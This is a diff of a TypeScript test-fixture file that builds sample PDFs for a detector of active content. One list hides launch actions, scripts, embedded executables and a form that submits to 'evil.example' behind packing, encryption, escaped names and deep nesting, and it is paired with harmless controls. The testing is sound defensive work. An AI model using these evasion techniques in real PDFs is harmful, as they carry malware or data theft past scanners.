@@ -1,8 +1,8 @@
 import { createHash } from 'node:crypto';
 import { deflateSync } from 'node:zlib';
+import type { Sample } from './attack-images.ts';
 import { type Entry, plainPdf, streamedPdf } from './attack-pdfs.ts';
 
-type Sample = { name: string; bytes: Buffer };
 /** Of ISO 32000-1, 7.5.7: the objects by their numbers. */
 type Objects = Readonly<Record<number, string>>;
 
@@ -148,78 +148,83 @@ const packed = (catalogue: string, ofPage = '', more: Objects = {}) =>
 const nested = (depth: number) =>
   `${'<< /S /GoTo /D [3 0 R /Fit] /Next '.repeat(depth)}${launch}${' >>'.repeat(depth)}`;
 
+const twice = {
+  filter: '[/ASCII85Decode /FlateDecode]',
+  pack: (text: Buffer) => ascii85(deflateSync(text)),
+};
+const sending = '<< /S /SubmitForm /F (http://evil.example/) >>';
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const rendition = '<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>';
+
 /** PDFs whose actions no search of their bytes finds. */
-export function packedActivePdfs(): Sample[] {
-  const twice = {
-    filter: '[/ASCII85Decode /FlateDecode]',
-    pack: (text: Buffer) => ascii85(deflateSync(text)),
-  };
-  const sending = '<< /S /SubmitForm /F (http://evil.example/) >>';
-  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
-  const rendition = '<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>';
-  return [
-    { name: 'a packed program', bytes: packedPdf(launching) },
-    { name: 'a program packed twice', bytes: packedPdf(launching, twice) },
-    {
-      name: 'a packed program under an escaped name',
-      bytes: packed('/OpenAction << /S /L#61unch /F (x) >>'),
-    },
-    { name: 'a program in an update', bytes: updatedPdf(`/OpenAction ${launch}`) },
-    { name: 'an encrypted program', bytes: encryptedPdf(launching) },
-    {
-      name: 'an encrypted program that PDFium does not decrypt',
-      bytes: encryptedPdf(launching, '/Identity'),
-    },
-    { name: 'a program far below', bytes: packed(`/OpenAction ${nested(40)}`) },
-    { name: 'a program below all that a reader follows', bytes: packed(`/OpenAction ${nested(400)}`) },
-    { name: 'a program by way of others', bytes: packed('/OpenAction 5 0 R', '', { 5: '6 0 R', 6: launch }) },
-    { name: 'a program when a page opens', bytes: packed('', `/AA << /O ${launch} >>`) },
-    { name: 'a form that sends itself on closing', bytes: packed(`/AA << /WC ${sending} >>`) },
-    { name: 'a form that sends itself by a link', bytes: packed('', link(`/A ${sending}`)) },
-    { name: 'a script of a link that is entered', bytes: packed('', link(`/AA << /E ${script} >>`)) },
-    { name: 'a script of a film', bytes: packed('', link(`/A ${rendition}`)) },
-    { name: 'data that a button imports', bytes: packed('', link('/A << /S /ImportData /F (x.fdf) >>')) },
-    {
-      name: 'another file that is opened',
-      bytes: packed('', link('/A << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>')),
-    },
-    { name: 'a form with a program of its own', bytes: packed('/AcroForm << /Fields [] /XFA (<xdp/>) >>') },
-    {
-      name: 'a file in a packed list',
-      bytes: packed('/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) >>] >> >>'),
-    },
-    { name: 'a scene with a script', bytes: packed('', link('/3DD 5 0 R').replace('/Link', '/3D')) },
-  ];
-}
+export const packedActivePdfs: readonly Sample[] = [
+  { name: 'a packed program', make: () => packedPdf(launching) },
+  { name: 'a program packed twice', make: () => packedPdf(launching, twice) },
+  {
+    name: 'a packed program under an escaped name',
+    make: () => packed('/OpenAction << /S /L#61unch /F (x) >>'),
+  },
+  { name: 'a program in an update', make: () => updatedPdf(`/OpenAction ${launch}`) },
+  { name: 'an encrypted program', make: () => encryptedPdf(launching) },
+  {
+    name: 'an encrypted program that PDFium does not decrypt',
+    make: () => encryptedPdf(launching, '/Identity'),
+  },
+  { name: 'a program far below', make: () => packed(`/OpenAction ${nested(40)}`) },
+  { name: 'a program below all that a reader follows', make: () => packed(`/OpenAction ${nested(400)}`) },
+  {
+    name: 'a program by way of others',
+    make: () => packed('/OpenAction 5 0 R', '', { 5: '6 0 R', 6: launch }),
+  },
+  { name: 'a program when a page opens', make: () => packed('', `/AA << /O ${launch} >>`) },
+  { name: 'a form that sends itself on closing', make: () => packed(`/AA << /WC ${sending} >>`) },
+  { name: 'a form that sends itself by a link', make: () => packed('', link(`/A ${sending}`)) },
+  { name: 'a script of a link that is entered', make: () => packed('', link(`/AA << /E ${script} >>`)) },
+  { name: 'a script of a film', make: () => packed('', link(`/A ${rendition}`)) },
+  { name: 'data that a button imports', make: () => packed('', link('/A << /S /ImportData /F (x.fdf) >>')) },
+  {
+    name: 'another file that is opened',
+    make: () => packed('', link('/A << /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) >>')),
+  },
+  {
+    name: 'a form with a program of its own',
+    make: () => packed('/AcroForm << /Fields [] /XFA (<xdp/>) >>'),
+  },
+  {
+    name: 'a file in a packed list',
+    make: () => packed('/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) >>] >> >>'),
+  },
+  { name: 'a scene with a script', make: () => packed('', link('/3DD 5 0 R').replace('/Link', '/3D')) },
+];
+
+const uri = '<< /S /URI /URI (https://banka.example/Launch) >>';
+const scan = streamOf(
+  '/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode',
+  Buffer.from('/JS /3D /XFA (stream\r\n'),
+);
+const field = '<< /FT /Tx /T (Ad) /V (Zeynep \\) /JavaScript /JS) >>';
 
 /** What ordinary documents hold: links, outlines, forms, scans; none of it acts on its own. */
-export function harmlessPdfs(): Sample[] {
-  const uri = '<< /S /URI /URI (https://banka.example/Launch) >>';
-  const scan = streamOf(
-    '/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode',
-    Buffer.from('/JS /3D /XFA (stream\r\n'),
-  );
-  const field = '<< /FT /Tx /T (Ad) /V (Zeynep \\) /JavaScript /JS) >>';
-  return [
-    { name: 'a link', bytes: packed('', link(`/A ${uri}`)) },
-    { name: 'a document that opens at its width', bytes: packed('/OpenAction [3 0 R /FitH 99]') },
-    {
-      name: 'a page that turns to another',
-      bytes: packed('', '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'),
-    },
-    { name: 'a form that is filled in', bytes: packed(`/AcroForm << /Fields [${field}] >>`) },
-    {
-      name: 'a text about scripts',
-      bytes: packed('/Outlines 5 0 R', '', {
+export const harmlessPdfs: readonly Sample[] = [
+  { name: 'a link', make: () => packed('', link(`/A ${uri}`)) },
+  { name: 'a document that opens at its width', make: () => packed('/OpenAction [3 0 R /FitH 99]') },
+  {
+    name: 'a page that turns to another',
+    make: () => packed('', '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'),
+  },
+  { name: 'a form that is filled in', make: () => packed(`/AcroForm << /Fields [${field}] >>`) },
+  {
+    name: 'a text about scripts',
+    make: () =>
+      packed('/Outlines 5 0 R', '', {
         5: '<< /First 6 0 R /Last 6 0 R >>',
         6: '<< /Title (\\\\\\(see /JavaScript, /Launch) /Parent 5 0 R >>',
       }),
-    },
-    { name: 'names that only begin alike', bytes: packed('/PieceInfo << /JSX 1 /LaunchDate 2 /3DX 3 >>') },
-    {
-      name: 'a scan whose bytes happen to be names',
-      bytes: packedPdf(documentOf('', '/Thumb 7 0 R'), { plain: new Map([[7, scan]]) }),
-    },
-    { name: 'a statement that may not be changed', bytes: encryptedPdf(documentOf('')) },
-  ];
-}
+  },
+  { name: 'names that only begin alike', make: () => packed('/PieceInfo << /JSX 1 /LaunchDate 2 /3DX 3 >>') },
+  {
+    name: 'a scan whose bytes happen to be names',
+    make: () => packedPdf(documentOf('', '/Thumb 7 0 R'), { plain: new Map([[7, scan]]) }),
+  },
+  { name: 'a statement that may not be changed', make: () => encryptedPdf(documentOf('')) },
+];
